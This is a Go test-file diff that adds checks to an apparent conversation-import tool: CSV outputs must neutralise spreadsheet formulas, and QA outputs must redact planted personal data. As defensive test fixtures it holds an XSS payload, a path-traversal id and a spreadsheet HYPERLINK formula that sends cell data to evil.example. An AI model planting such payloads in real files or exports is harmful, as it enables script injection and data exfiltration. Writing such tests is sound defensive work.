@@ -4,6 +4,7 @@ import (
 	"bufio"
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"io/fs"
@@ -36,6 +37,26 @@ const (
 	hostileHTML = `<script>alert("parley")</script><img src=x onerror=alert(1)>`
 	hostileConv = "../../../../../tmp/parley-escape"
 )
+
+// formulaConv is formula_ids.jsonl's conversation: a spreadsheet formula
+// that every CSV must neutralise.
+const formulaConv = `=HYPERLINK("http://evil.example/?leak="&A1,"open")`
+
+// pii.jsonl: a WhatsApp conversation whose customer id is a phone number
+// and whose messages plant personal data in the shapes redaction used to
+// miss; its last line re-delivers an event_id with other content (another
+// conversation), which the build keeps once and lists as a conflict.
+const (
+	piiConv           = "pii-whatsapp"
+	conflictingCopies = 1
+)
+
+// piiPlanted are pii.jsonl's personal data, as they must never appear in
+// any QA output (transcripts, index, manifests).
+var piiPlanted = []string{
+	"447700900123", "4111\u00a01111", "４１１１", "415/555-0132", "06 12 34 56 78", "DE89-3704",
+	"jörg", "bücher", "123-45-6789", "QQ 12 34 56 C", "12345678Z", "1984-02-29", "203.0.113.7",
+}
 
 // outcome is where a file's lines must land: events in the lake, dead
 // letters by reason.
@@ -269,8 +290,18 @@ func TestHostileImport(t *testing.T) {
 	if err := db.QueryRow("SELECT count(*) FROM conversations WHERE conversation_id = ?", hostileConv).Scan(&n); err != nil || n != 1 {
 		t.Errorf("the ../ conversation: %d rows, %v", n, err)
 	}
-	if err := db.QueryRow("SELECT count(*) FROM events").Scan(&n); err != nil || n != total.Events {
-		t.Errorf("warehouse events = %d (%v), want %d", n, err, total.Events)
+	if err := db.QueryRow("SELECT count(*) FROM events").Scan(&n); err != nil || n != total.Events-conflictingCopies {
+		t.Errorf("warehouse events = %d (%v), want %d (the lake's, less the dropped conflicting copy)", n, err, total.Events-conflictingCopies)
+	}
+	if err := db.QueryRow("SELECT duplicate_conflicts FROM warehouse_info").Scan(&n); err != nil || n != conflictingCopies {
+		t.Errorf("warehouse_info.duplicate_conflicts = %d (%v), want %d", n, err, conflictingCopies)
+	}
+	var sqlCSV bytes.Buffer // what parley sql --format csv prints
+	if err := metrics.Query(ctx, db, "SELECT conversation_id, last_queue, most_active_agent_id, customer_id, first_response_s FROM conversations ORDER BY 1", metrics.FormatCSV, &sqlCSV); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(work, "out", "conversations.csv"), sqlCSV.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
 	}
 	if err := db.Close(); err != nil {
 		t.Fatal(err)
@@ -284,14 +315,18 @@ func TestHostileImport(t *testing.T) {
 	if err != nil {
 		t.Fatalf("qa sample: %v", err)
 	}
-	sampled := false
+	sampled, formula, pii := false, false, false
 	for _, p := range res.Sampled {
 		sampled = sampled || p.ConversationID == hostileConv
+		formula = formula || p.ConversationID == formulaConv
+		pii = pii || p.ConversationID == piiConv
 	}
-	if !sampled {
-		t.Errorf("the hostile conversation was not sampled (%d picks): the escaping check below would prove little", len(res.Sampled))
+	if !sampled || !formula || !pii {
+		t.Errorf("the hostile conversations were not all sampled (%d picks): the checks below would prove little", len(res.Sampled))
 	}
 	checkEscaped(t, filepath.Join(work, "out"))
+	checkSpreadsheetSafe(t, filepath.Join(work, "out"))
+	checkRedacted(t, filepath.Join(work, "out", "qa"))
 	containedIn(t, work, "in", "lake", "out")
 }
 
@@ -326,6 +361,91 @@ func checkEscaped(t *testing.T, dir string) {
 	}
 	if pages == 0 || escaped == 0 {
 		t.Errorf("%d HTML pages, %d showing the hostile HTML escaped; want both > 0", pages, escaped)
+	}
+}
+
+// checkRedacted fails if any file of the QA outputs under dir holds one of
+// pii.jsonl's planted personal data, and checks that the transcripts show
+// redaction placeholders (so the conversation did reach them).
+func checkRedacted(t *testing.T, dir string) {
+	t.Helper()
+	placeholders := 0
+	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
+		if err != nil || d.IsDir() {
+			return err
+		}
+		b, err := os.ReadFile(path)
+		if err != nil {
+			return err
+		}
+		text := string(b)
+		for _, p := range piiPlanted {
+			raw, err := strconv.Unquote(`"` + p + `"`)
+			if err != nil {
+				return err
+			}
+			if strings.Contains(text, raw) {
+				t.Errorf("%s holds the planted %q", path, raw)
+			}
+		}
+		if strings.Contains(text, "[card]") && strings.Contains(text, "[iban]") && strings.Contains(text, "[ssn]") {
+			placeholders++
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if placeholders == 0 {
+		t.Errorf("no QA page under %s shows the pii conversation's placeholders: the check above proves little", dir)
+	}
+}
+
+// checkSpreadsheetSafe fails if a cell of a CSV under dir would run as a
+// spreadsheet formula (it starts with =, +, -, @, tab or carriage return
+// and is not a number), and checks that each CSV holds formula_ids.jsonl's
+// formula neutralised, so the first check means something.
+func checkSpreadsheetSafe(t *testing.T, dir string) {
+	t.Helper()
+	files := 0
+	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
+		if err != nil || filepath.Ext(path) != ".csv" {
+			return err
+		}
+		files++
+		f, err := os.Open(path)
+		if err != nil {
+			return err
+		}
+		defer f.Close()
+		r := csv.NewReader(f)
+		r.FieldsPerRecord = -1
+		rows, err := r.ReadAll()
+		if err != nil {
+			return fmt.Errorf("%s: %w", path, err)
+		}
+		neutralised := false
+		for _, row := range rows {
+			for _, cell := range row {
+				neutralised = neutralised || cell == "'"+formulaConv
+				if cell == "" || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					continue
+				}
+				if _, err := strconv.ParseFloat(cell, 64); err != nil {
+					t.Errorf("%s: cell %q would run as a formula", path, cell)
+				}
+			}
+		}
+		if !neutralised {
+			t.Errorf("%s does not hold the neutralised %q", path, formulaConv)
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if files < 3 { // manifest.csv, ledger.csv, conversations.csv
+		t.Errorf("%d CSV files under %s, want at least 3", files, dir)
 	}
 }
 
